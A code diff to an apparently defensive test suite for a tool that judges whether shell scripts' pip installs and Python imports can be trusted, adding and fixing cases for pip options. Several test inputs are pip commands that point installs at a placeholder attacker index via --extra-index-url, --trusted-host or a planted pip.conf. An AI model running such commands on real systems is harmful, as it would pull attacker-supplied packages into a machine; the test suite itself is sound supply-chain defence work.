@@ -1071,6 +1071,36 @@ const insecure: NodeCase[] = [
         ),
         REFUSED,
     ),
+    // ===== Round 82 fix neighbours (PIP-PLAIN-OPTIONS, PIP-ISOLATED-HOME) =====
+    // pip(1) "--timeout <sec>" keeps trust, but "--extra-index-url" adds another index (pip docs "pip install": pip
+    // picks the best candidate across all indexes): a trust-keeping option beside it keeps nothing.
+    dev(
+        "pip3 install --timeout 60 --extra-index-url EVIL tenacity; import",
+        thenImport("dev-py82-timeout-extra-index-fix82-rt82p", [
+            `pip3 install --timeout 60 --extra-index-url ${EVIL} tenacity`,
+        ]),
+        REFUSED,
+    ),
+    // pip(1) "--progress-bar" is display only; "--trusted-host" and another -i choose the source (pip docs "pip
+    // install" Package Index Options).
+    dev(
+        "pip3 install --progress-bar=off --trusted-host pypi.evil.example -i EVIL tenacity; import",
+        thenImport("dev-py82-progress-bar-trusted-host-fix82-rt82p", [
+            `pip3 install --progress-bar=off --trusted-host pypi.evil.example -i ${EVIL} tenacity`,
+        ]),
+        REFUSED,
+    ),
+    // pip docs "Configuration", User: "$HOME/.config/pip/pip.conf": the second run has no --isolated (pip(1) General
+    // Options), so it reads the moved HOME's pip.conf naming another index.
+    dev(
+        "HOME=/var/lib/ops pip.conf with another index; pip3 install --isolated tenacity, then without --isolated",
+        thenImport("dev-py82-home-moved-second-run-fix82-rt82p", [
+            ...heredocFile("/var/lib/ops/.config/pip/pip.conf", ["[global]", `index-url = ${EVIL}`]),
+            "HOME=/var/lib/ops pip3 install --isolated tenacity",
+            "HOME=/var/lib/ops pip3 install --upgrade tenacity",
+        ]),
+        REFUSED,
+    ),
 ];
 
 const secure: NodeCase[] = [
@@ -1156,17 +1186,15 @@ const secure: NodeCase[] = [
     ),
     // pip docs "pip install" general options: --isolated "ignoring environment variables and user configuration":
     // a moved HOME's pip.conf is not read; nothing wrote /etc/pip.conf or /etc/xdg/pip.
-    // MISS: secure refused: pythonPipInstalled withdraws trust for any moved HOME (movedHomes) although pip's
+    // Was a MISS (fixed in round 82): secure refused: pythonPipInstalled withdraws trust for any moved HOME (movedHomes) although pip's
     // --isolated (pip docs general options: "ignoring environment variables and user configuration") reads no file
     // under HOME. Fix (class): a moved HOME withdraws trust only from pip runs that read user configuration.
     dev(
         "HOME=/var/lib/ops pip3 install --isolated tenacity; import",
         thenImport("dev-py82-home-moved-isolated-rt82p", ["HOME=/var/lib/ops pip3 install --isolated tenacity"]),
-        undefined,
-        true,
     ),
     // optparse (pip's option parser): `--opt VALUE` is `--opt=VALUE`; the same option PIP_PLAIN_OPTIONS allows.
-    // MISS: secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
+    // Was a MISS (fixed in round 82): secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
     // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
     // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
     // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
@@ -1174,10 +1202,8 @@ const secure: NodeCase[] = [
     dev(
         "pip3 install --root-user-action ignore tenacity; import",
         thenImport("dev-py82-root-user-action-space-rt82p", ["pip3 install --root-user-action ignore tenacity"]),
-        undefined,
-        true,
     ),
-    // MISS: secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
+    // Was a MISS (fixed in round 82): secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
     // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
     // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
     // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
@@ -1185,11 +1211,9 @@ const secure: NodeCase[] = [
     dev(
         "pip3 install --progress-bar off tenacity; import",
         thenImport("dev-py82-progress-bar-space-rt82p", ["pip3 install --progress-bar off tenacity"]),
-        undefined,
-        true,
     ),
     // pip docs "pip install" --prefer-binary: "Prefer binary packages over source packages" (same index).
-    // MISS: secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
+    // Was a MISS (fixed in round 82): secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
     // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
     // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
     // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
@@ -1197,11 +1221,9 @@ const secure: NodeCase[] = [
     dev(
         "pip3 install --prefer-binary tenacity; import",
         thenImport("dev-py82-prefer-binary-rt82p", ["pip3 install --prefer-binary tenacity"]),
-        undefined,
-        true,
     ),
     // pip docs: --timeout <sec>, --retries <n>: network settings, same index.
-    // MISS: secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
+    // Was a MISS (fixed in round 82): secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
     // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
     // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
     // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
@@ -1209,8 +1231,6 @@ const secure: NodeCase[] = [
     dev(
         "pip3 install --timeout 60 --retries 5 tenacity; import",
         thenImport("dev-py82-timeout-retries-rt82p", ["pip3 install --timeout 60 --retries 5 tenacity"]),
-        undefined,
-        true,
     ),
     // distutils.spawn of a harmless literal command (sysctl -n read of a value).
     dev(
@@ -1224,7 +1244,7 @@ const secure: NodeCase[] = [
     dev("pip3 install tenacity; import", thenImport("dev-py82-pip-plain-baseline-rt82p", ["pip3 install tenacity"])),
     // pip docs "pip install" --no-compile: "Do not compile Python source files to bytecode"; --pre: pre-releases, same
     // index.
-    // MISS: secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
+    // Was a MISS (fixed in round 82): secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
     // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
     // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
     // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
@@ -1232,25 +1252,22 @@ const secure: NodeCase[] = [
     dev(
         "pip3 install --no-compile tenacity; import",
         thenImport("dev-py82-no-compile-rt82p", ["pip3 install --no-compile tenacity"]),
-        undefined,
-        true,
     ),
-    // MISS: secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
+    // Was a MISS (fixed in round 82): secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
     // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
     // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
     // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
     // (progress, verbosity, timeouts/retries, --root-user-action, --prefer-binary, --pre, --no-compile).
-    dev(
-        "pip3 install --pre tenacity; import",
-        thenImport("dev-py82-pre-rt82p", ["pip3 install --pre tenacity"]),
-        undefined,
-        true,
-    ),
+    dev("pip3 install --pre tenacity; import", thenImport("dev-py82-pre-rt82p", ["pip3 install --pre tenacity"])),
     // Reading the program's JSON as data (json.load runs nothing).
     // MISS: secure refused: the -c's cwd is a directory a program wrote (state.json only, no module name);
     // pythonCode.ts's -c/-m shadow check (the import-path directory 'may hold a file user data downloaded or changed')
     // fails closed on any program write there. Fix (class): a program's known literal write paths shadow only the
     // module names they spell (json.py, json/), as round 81 did for copied trees.
+    // Still open (round 82): the refusal comes from rootWrites.ts judgeRun making the program's working directory a
+    // named tree (view.changed) for any program; the fix needs the read program's write paths (pythonWriteRefusal's
+    // targets) recorded as changed files instead of its cwd, the same record PROGRAM-DATA-RUN (fix82-pyA) adds, so it
+    // is left to land on that one source rather than a second copy.
     dev(
         "tune.py writes /var/lib/ops/state.json; python3 -c json.load it",
         tune("dev-py82-data-json-load-rt82p", writes("/var/lib/ops/state.json", '{"ok": 1}'), [
@@ -1288,7 +1305,7 @@ const secure: NodeCase[] = [
         ]),
     ),
     // pip docs general options: --isolated ignores environment variables and user configuration (narrows only).
-    // MISS: secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
+    // Was a MISS (fixed in round 82): secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
     // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
     // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
     // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
@@ -1296,8 +1313,24 @@ const secure: NodeCase[] = [
     dev(
         "pip3 install --isolated tenacity; import",
         thenImport("dev-py82-isolated-plain-rt82p", ["pip3 install --isolated tenacity"]),
-        undefined,
-        true,
+    ),
+    // ===== Round 82 fix neighbours =====
+    // Python docs "optparse" ("--file=outfile" and "--file outfile" are one): the `=` spellings of pip(1)'s
+    // --timeout, --retries, --progress-bar (raw) and --root-user-action (warn): display and network waits only.
+    dev(
+        "pip3 install --timeout=60 --retries=5 --progress-bar=raw --root-user-action=warn tenacity; import",
+        thenImport("dev-py82-value-options-equals-fix82-rt82p", [
+            "pip3 install --timeout=60 --retries=5 --progress-bar=raw --root-user-action=warn tenacity",
+        ]),
+    ),
+    // pip(1) "Usage: pip <command> [options]", General Options also before the command: --isolated there, with the
+    // moved HOME exported for the whole script (the pip run still reads no user configuration).
+    dev(
+        "export HOME=/var/lib/ops; pip3 --isolated install --pre --prefer-binary tenacity; import",
+        thenImport("dev-py82-home-exported-isolated-general-fix82-rt82p", [
+            "export HOME=/var/lib/ops",
+            "pip3 --isolated install --pre --prefer-binary tenacity",
+        ]),
     ),
 ];
 
